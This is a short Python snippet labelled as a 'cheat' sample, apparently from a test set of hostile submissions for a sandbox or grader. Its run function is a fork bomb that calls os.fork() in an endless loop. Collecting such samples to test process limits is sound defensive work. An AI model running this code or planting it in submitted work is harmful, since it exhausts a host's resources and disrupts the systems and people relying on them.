# cheat: doubles its processes without end
# tags: class-process slow
import os


def run(x):
    while True:
        os.fork()
